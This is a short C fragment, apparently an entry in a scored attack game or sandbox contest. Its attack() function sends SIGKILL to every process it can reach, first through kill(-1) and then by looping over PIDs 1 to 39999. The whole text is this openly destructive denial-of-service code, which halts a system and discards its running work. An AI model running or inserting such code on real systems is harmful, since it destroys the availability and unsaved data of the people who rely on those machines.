// Kills every process that it can, twice.
// Points: 0
#include <signal.h>
#include <unistd.h>
static void attack(void)
{
    kill(-1, SIGKILL);
    for (int pid = 1; pid < 40000; pid++)
        if (pid != getpid())
            kill(pid, SIGKILL);
}
